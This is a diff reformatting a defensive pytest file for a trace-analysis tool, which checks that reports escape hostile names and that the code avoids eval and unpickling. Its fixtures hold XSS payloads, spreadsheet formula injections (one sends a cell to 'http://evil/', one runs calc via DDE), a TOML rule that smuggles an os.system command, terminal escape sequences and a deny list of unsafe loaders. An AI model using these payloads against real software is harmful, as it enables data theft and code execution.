@@ -13,19 +13,47 @@ from pathlib import Path
 
 import pandas as pd
 import pytest
-
 from bad_inputs import analyze, mini_trace, write
+
 from tracekit.render import formats
 
 ROOT = Path(__file__).resolve().parents[1]
 
-FORMULAS = ["=1+1", "+1", "-1+2", "@SUM(A1:A2)", "\t=1", "\r=1",
-            '=HYPERLINK("http://evil/?"&A1,"click")', "=cmd|' /C calc'!A0", "-", "@"]
-MARKDOWN = ["a | b", "|", "`code`", "**bold**", "_it_", "<img src=x onerror=alert(1)>",
-            "[link](javascript:alert(1))", "![img](http://evil/x.png)", "line\nbreak", "cr\rret",
-            "back\\slash |", "<script>alert(1)</script>"]
-HTML_PAYLOADS = ["<script>alert(1)</script>", "</script><script>alert(2)</script>",
-                 '"><img src=x onerror=alert(3)>', "<!--", "]]>", "\u2028\u2029", "&lt;b&gt;"]
+FORMULAS = [
+    "=1+1",
+    "+1",
+    "-1+2",
+    "@SUM(A1:A2)",
+    "\t=1",
+    "\r=1",
+    '=HYPERLINK("http://evil/?"&A1,"click")',
+    "=cmd|' /C calc'!A0",
+    "-",
+    "@",
+]
+MARKDOWN = [
+    "a | b",
+    "|",
+    "`code`",
+    "**bold**",
+    "_it_",
+    "<img src=x onerror=alert(1)>",
+    "[link](javascript:alert(1))",
+    "![img](http://evil/x.png)",
+    "line\nbreak",
+    "cr\rret",
+    "back\\slash |",
+    "<script>alert(1)</script>",
+]
+HTML_PAYLOADS = [
+    "<script>alert(1)</script>",
+    "</script><script>alert(2)</script>",
+    '"><img src=x onerror=alert(3)>',
+    "<!--",
+    "]]>",
+    "\u2028\u2029",
+    "&lt;b&gt;",
+]
 
 
 def _string_frame(values: list[str], dtype) -> pd.DataFrame:
@@ -89,8 +117,9 @@ def _hostile_trace() -> dict:
     t = mini_trace()
     payload = " ".join(HTML_PAYLOADS + FORMULAS[:4] + MARKDOWN[:3])
     t["deviceProperties"] = [{"name": "GPU " + payload}]
-    t["traceEvents"].append({"ph": "X", "cat": "weird " + payload, "name": payload, "pid": 1,
-                             "tid": 1, "ts": 1001, "dur": 1})
+    t["traceEvents"].append(
+        {"ph": "X", "cat": "weird " + payload, "name": payload, "pid": 1, "tid": 1, "ts": 1001, "dur": 1}
+    )
     for e in t["traceEvents"]:
         if e.get("cat") == "kernel":
             e["name"] = payload
@@ -142,16 +171,29 @@ def test_hostile_names_are_escaped_in_the_html_report(tmp_path):
 # ------------------------------------------------------------------ nothing is evaluated
 
 FORBIDDEN_CALLS = {"eval", "exec", "compile", "__import__", "execfile", "input"}
-FORBIDDEN_ATTRS = {("pickle", "load"), ("pickle", "loads"), ("pickle", "Unpickler"),
-                   ("cPickle", "loads"), ("marshal", "loads"), ("marshal", "load"),
-                   ("shelve", "open"), ("yaml", "load"), ("yaml", "unsafe_load"),
-                   ("pd", "read_pickle"), ("pandas", "read_pickle"), ("torch", "load"),
-                   ("dill", "loads"), ("joblib", "load"), ("jsonpickle", "decode")}
+FORBIDDEN_ATTRS = {
+    ("pickle", "load"),
+    ("pickle", "loads"),
+    ("pickle", "Unpickler"),
+    ("cPickle", "loads"),
+    ("marshal", "loads"),
+    ("marshal", "load"),
+    ("shelve", "open"),
+    ("yaml", "load"),
+    ("yaml", "unsafe_load"),
+    ("pd", "read_pickle"),
+    ("pandas", "read_pickle"),
+    ("torch", "load"),
+    ("dill", "loads"),
+    ("joblib", "load"),
+    ("jsonpickle", "decode"),
+}
 
 
 def _analysis_sources() -> list[Path]:
-    return sorted(p for d in ("tracekit", "analyses") for p in (ROOT / d).rglob("*.py")
-                  if "capture" not in p.parts)
+    return sorted(
+        p for d in ("tracekit", "analyses") for p in (ROOT / d).rglob("*.py") if "capture" not in p.parts
+    )
 
 
 def test_no_eval_or_unpickling_in_the_analysis_code():
@@ -165,23 +207,32 @@ def test_no_eval_or_unpickling_in_the_analysis_code():
             f = node.func
             if isinstance(f, ast.Name) and f.id in FORBIDDEN_CALLS:
                 found.append(f"{path.relative_to(ROOT)}:{node.lineno}: {f.id}()")
-            elif isinstance(f, ast.Attribute) and isinstance(f.value, ast.Name) and \
-                    (f.value.id, f.attr) in FORBIDDEN_ATTRS:
+            elif (
+                isinstance(f, ast.Attribute)
+                and isinstance(f.value, ast.Name)
+                and (f.value.id, f.attr) in FORBIDDEN_ATTRS
+            ):
                 found.append(f"{path.relative_to(ROOT)}:{node.lineno}: {f.value.id}.{f.attr}()")
-            elif isinstance(f, ast.Attribute) and f.attr == "load" and isinstance(f.value, ast.Name) \
-                    and f.value.id in ("np", "numpy"):
-                if not any(k.arg == "allow_pickle" and isinstance(k.value, ast.Constant) and
-                           k.value.value is False for k in node.keywords):
-                    found.append(f"{path.relative_to(ROOT)}:{node.lineno}: np.load without "
-                                 "allow_pickle=False")
+            elif (
+                isinstance(f, ast.Attribute)
+                and f.attr == "load"
+                and isinstance(f.value, ast.Name)
+                and f.value.id in ("np", "numpy")
+            ) and not any(
+                k.arg == "allow_pickle" and isinstance(k.value, ast.Constant) and k.value.value is False
+                for k in node.keywords
+            ):
+                found.append(f"{path.relative_to(ROOT)}:{node.lineno}: np.load without allow_pickle=False")
     assert not found, "\n".join(found)
 
 
 def test_taxonomy_files_are_data_not_code(tmp_path):
     """User TOML rules are parsed as data: a Python payload in them is just a string."""
     rules = tmp_path / "rules.toml"
-    rules.write_text('[[module]]\nmatch = "__import__(\'os\').system(\'touch PWNED\')"\n'
-                     'category = "=1+1"\n', encoding="utf-8")
+    rules.write_text(
+        "[[module]]\nmatch = \"__import__('os').system('touch PWNED')\"\ncategory = \"=1+1\"\n",
+        encoding="utf-8",
+    )
     trace = write(tmp_path / "t.json", mini_trace())
     r = analyze(trace, "--taxonomy", rules, "--format", "json", "--no-cache")
     assert r.exit_code in (0, 2), r.stderr
@@ -198,11 +249,24 @@ def test_terminal_output_strips_escape_sequences():
     from tracekit.render.terminal import render
 
     evil = "gemm\x1b[2J\x1b]0;pwned\x07\x9b31m"
-    tables = {"kernels": pd.DataFrame({"group": ["compute"], "category": [evil], "count": [1],
-                                       "time_ms": [1.0], "kernel_ms": [1.0], "percent": [100.0]})}
+    tables = {
+        "kernels": pd.DataFrame(
+            {
+                "group": ["compute"],
+                "category": [evil],
+                "count": [1],
+                "time_ms": [1.0],
+                "kernel_ms": [1.0],
+                "percent": [100.0],
+            }
+        )
+    }
     buf = io.StringIO()
-    render({"path": "t.json", "mode": "gpu", "devices": [evil]}, tables,
-           Console(file=buf, width=200, force_terminal=False))
+    render(
+        {"path": "t.json", "mode": "gpu", "devices": [evil]},
+        tables,
+        Console(file=buf, width=200, force_terminal=False),
+    )
     out = buf.getvalue()
     assert "gemm" in out
     for ch in ("\x1b", "\x07", "\x9b"):
